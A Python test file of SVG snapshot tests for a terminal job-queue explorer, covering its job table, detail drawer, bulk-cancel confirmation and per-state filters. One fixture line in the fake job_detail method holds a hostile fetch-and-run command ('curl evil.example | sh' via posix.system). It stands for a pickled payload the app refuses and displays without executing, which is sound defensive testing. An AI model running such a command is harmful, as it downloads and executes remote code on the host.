"""SVG snapshots of the Jobs tab and its detail drawer at 80×24 and 160×50, with a canned page and frozen clock."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from textual.pilot import Pilot
from textual.widgets import Input

from tests.tui.fakes import NOW, FakeActions, FakeReader, at, loaded, make_app, page_job, wait_until
from tui.data.explorer.attempts import Attempt, AttemptHistory
from tui.data.explorer.pages import ExplorerPage
from tui.data.explorer.query import Filter
from tui.data.explorer.rows import ExplorerRow
from tui.data.job_meta import JobDetail
from tui.data.job_payload import Payload
from tui.screens.explorer_detail import ExplorerDetailScreen
from tui.screens.job_confirm import JobConfirmScreen
from worker.plans import JobActionPlan, JobRef

SMALL, LARGE = (80, 24), (160, 50)
TRACEBACK = "\n".join(["Traceback (most recent call last):",
                       *[f'  File "/srv/app/imports.py", line {10 + i}, in step_{i}' for i in range(14)],
                       "ConnectionError: upstream timed out after 30s (password=***)"])


def canned_rows() -> list[ExplorerRow]:
    """Failed, retrying, running, abandoned and pending rows across two queues."""
    kinds = [("failed", "failed", "ConnectionError: upstream timed out after 30s", 3, 3),
             ("retrying", "scheduled", "ValueError: bad row 17 (password=***)", 2, 4),
             ("running", "active", None, 1, None), ("abandoned", "active", None, 1, None),
             ("pending", "pending", None, 0, None), ("stopped", "failed", "StopRequested", 1, None)]
    rows = []
    for index, (state, source, error, attempts, most) in enumerate(kinds * 2):
        job = page_job("imports" if index % 2 else "default", source, index)
        rows.append(ExplorerRow(job, state, attempts, most, None if most is None else most - attempts, error))
    return rows


class ExplorerFake(FakeReader):
    """The fake reader plus canned explorer pages (the filter is echoed back) and a job's attempt history."""

    def explorer_page(self, flt: Filter, offset: int = 0, limit: int = 50, rescan: bool = False) -> ExplorerPage:
        rows = canned_rows()
        if flt.states:
            rows = [row for row in rows if row.state in flt.states]
        if flt.queues:
            rows = [row for row in rows if row.job.queue in flt.queues]
        return ExplorerPage(flt, 0, limit, tuple(rows), "registry", len(rows), read_at=NOW)

    def job_detail(self, job_id: str) -> JobDetail:
        rows = canned_rows()
        row = next(r for r in rows if r.redis_id == job_id)
        payload = Payload(True, "['order-17', 3]", (("password", "***"), ("dsn", "redis://:***@cache:6379/0")))
        if row is rows[1]:  # the second row: a payload that is not plain data, shown as its structure
            payload = Payload(False, structure="args=(posix.system('curl evil.example | sh'), 'order-17') kwargs={}",
                              globals=("posix.system",), note="not plain data (shown, never executed)")
        return JobDetail(**vars(replace(row.job, state="failed")), retries=2, retries_left=0, error=row.error,
                         meta=(("progress", "40%"),), dependencies=(("3f2a9c1e5b", "completed"),),
                         payload=payload, number_of_retries=2)

    def job_attempts(self, job_id: str, task: str | None = None) -> AttemptHistory:
        attempts = tuple(Attempt(outcome, at(-600 * n - 60), at(-600 * n - 30), "host-a.1201", error)
                         for n, (outcome, error) in enumerate([("failed", "ConnectionError: upstream timed out"),
                                                              ("retried", "ConnectionError: reset"),
                                                              ("retried", "ValueError: bad row 17")]))
        return AttemptHistory(attempts, (), TRACEBACK)

    def matching_ids(self, flt: Filter) -> list[str]:
        return [f"job-{index:05d}" for index in range(1237)]


class BulkActions(FakeActions):
    """Plans 1,234 of the asked-for jobs over two queues and leaves 3 (one running, two gone) alone."""

    def plan_job_action(self, action: str, job_ids: list[str], reason: str = "",
                        retries: int | None = None) -> JobActionPlan:
        jobs = tuple(JobRef(job_id, "imports" if index % 3 else "default", "queued")
                     for index, job_id in enumerate(job_ids[:1234]))
        skipped = ((job_ids[1234], "started"), (job_ids[1235], "missing"), (job_ids[1236], "missing"))
        return JobActionPlan(action, jobs, skipped)


async def measured(pilot: Pilot[Any]) -> None:
    """Wait until the Jobs table has sized its columns: a modal pushed before would freeze them unmeasured."""
    table = pilot.app.explorer_pane.table
    await wait_until(lambda: not table._require_update_dimensions, pilot)
    table.refresh()  # the header line is drawn again with the measured widths before the modal covers it
    await pilot.pause(0.3)


async def settle(pilot: Pilot[Any]) -> None:
    """Let the tables measure their columns (DataTable sizes auto-width columns when idle) before the shot."""
    for _ in range(3):
        await pilot.pause(0.2)
        await pilot.wait_for_scheduled_animations()


def open_explorer(*keys: str, drawer: bool = False) -> Any:
    """A run_before: first snapshot, key 4, the page, then ``keys`` (and the drawer when asked)."""

    async def run_before(pilot: Pilot[Any]) -> None:
        app = pilot.app
        await loaded(app, pilot)
        await pilot.press("4")
        await wait_until(lambda: app.explorer_pane.page is not None, pilot)
        await settle(pilot)  # the columns are measured before a drawer covers the table
        await pilot.press(*keys)
        if drawer:
            await measured(pilot)
            await pilot.press("enter")
            await wait_until(lambda: isinstance(app.screen, ExplorerDetailScreen), pilot)
        await settle(pilot)

    return run_before


def test_explorer_at_80x24(snap_compare: Any) -> None:
    """Narrow: job, task, queue, state, last event and failure; a marked row."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=SMALL, run_before=open_explorer("space"))


def test_explorer_at_160x50(snap_compare: Any) -> None:
    """Wide: every column, attempts n of max, two marked rows."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=open_explorer("space", "space"))


def test_drawer_at_160x50(snap_compare: Any) -> None:
    """The drawer at full size: health, attempts n of max, args and kwargs masked."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=open_explorer(drawer=True))


def test_drawer_at_80x24(snap_compare: Any) -> None:
    """The drawer on a small terminal: the same fields, scrolled within the drawer rather than cut."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=SMALL, run_before=open_explorer(drawer=True))


def test_drawer_with_a_payload_that_is_not_plain_data(snap_compare: Any) -> None:
    """The drawer of a job whose payload the plain-data unpickler refused: its structure and the names in it."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=open_explorer("down", drawer=True))


def typed_confirmation() -> Any:
    """A run_before: the Jobs tab, a filter, the 1,237 ids M reads marked, then C: the typed confirmation of 1,234."""

    async def run_before(pilot: Pilot[Any]) -> None:
        app = pilot.app
        await loaded(app, pilot)
        await pilot.press("4")
        await wait_until(lambda: app.explorer_pane.page is not None, pilot)
        pane = app.explorer_pane
        pane.apply_query("state:pending")
        await wait_until(lambda: pane.page.filter.states == ("pending",), pilot)
        await settle(pilot)
        pane.marks = dict.fromkeys(ExplorerFake().matching_ids(pane.filter))  # as M sets them, without its toast
        pane._marks_changed("state:pending")
        await measured(pilot)
        await pilot.press("C")
        await wait_until(lambda: isinstance(app.screen, JobConfirmScreen), pilot)
        for field in app.screen.query(Input):
            field.cursor_blink = False  # a blinking cursor would make the shot differ run to run
        await settle(pilot)

    return run_before


def test_typed_confirmation_at_80x24(snap_compare: Any) -> None:
    """Cancel on every job matching the filter: exact count per queue, what is left alone, the count to type."""
    app = make_app(ExplorerFake(), BulkActions())
    assert snap_compare(app, terminal_size=SMALL, run_before=typed_confirmation())


def test_typed_confirmation_at_160x50(snap_compare: Any) -> None:
    """The same typed confirmation at full size: every queue's count and the skipped jobs on screen at once."""
    app = make_app(ExplorerFake(), BulkActions())
    assert snap_compare(app, terminal_size=LARGE, run_before=typed_confirmation())


def filtered(state: str) -> Any:
    """A run_before: the Jobs tab, then the query ``state:<state>`` typed in the bar and submitted."""

    async def run_before(pilot: Pilot[Any]) -> None:
        app = pilot.app
        await loaded(app, pilot)
        await pilot.press("4")
        pane = app.explorer_pane
        await wait_until(lambda: pane.page is not None, pilot)
        await pilot.press("slash", *f"state:{state}", "enter")
        await wait_until(lambda: pane.page.filter.states == (state,), pilot)
        assert {row.state for row in pane.page.rows} == {state}
        await settle(pilot)

    return run_before


@pytest.mark.parametrize("state", ["failed", "running", "retrying", "abandoned", "stopped", "pending"])
def test_explorer_per_state_at_160x50(snap_compare: Any, state: str) -> None:
    """One state's filter: only its rows, the filter named in the header, nothing else on the page."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=LARGE, run_before=filtered(state))


@pytest.mark.parametrize("state", ["failed", "running", "retrying", "abandoned", "stopped", "pending"])
def test_explorer_per_state_at_80x24(snap_compare: Any, state: str) -> None:
    """One state's filter on a small terminal: the optional columns left out, its rows only."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=SMALL, run_before=filtered(state))


def opened_queue(name: str) -> Any:
    """A run_before: the Workers tab, the cursor on queue ``name``'s row, Enter: the Jobs tab filtered to it."""

    async def run_before(pilot: Pilot[Any]) -> None:
        app = pilot.app
        await loaded(app, pilot)
        await pilot.press("2")
        table = app.workers_pane.queues_table
        table.focus()
        table.move_cursor(row=[key.value for key in table.rows].index(name))
        await pilot.press("enter")
        pane = app.explorer_pane
        await wait_until(lambda: pane.page is not None and pane.page.filter.queues == (name,), pilot)
        assert {row.job.queue for row in pane.page.rows} == {name}
        await settle(pilot)

    return run_before


@pytest.mark.parametrize("size", [SMALL, LARGE], ids=["80x24", "160x50"])
def test_a_queue_opened_from_the_workers_tab(snap_compare: Any, size: tuple[int, int]) -> None:
    """Enter on a queue row: the Jobs tab with queue:NAME in its header, only that queue's jobs."""
    assert snap_compare(make_app(ExplorerFake()), terminal_size=size, run_before=opened_queue("default"))
